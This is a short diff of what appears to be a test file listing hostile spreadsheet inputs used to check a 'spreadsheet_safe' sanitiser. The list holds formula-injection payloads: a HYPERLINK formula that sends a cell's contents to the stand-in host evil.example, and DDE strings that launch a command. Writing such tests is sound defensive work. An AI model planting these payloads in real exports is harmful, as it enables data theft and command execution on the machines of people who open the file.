@@ -14,7 +14,7 @@ from harmonization.models import IngestBatch
 from harmonization.views import spreadsheet_safe
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
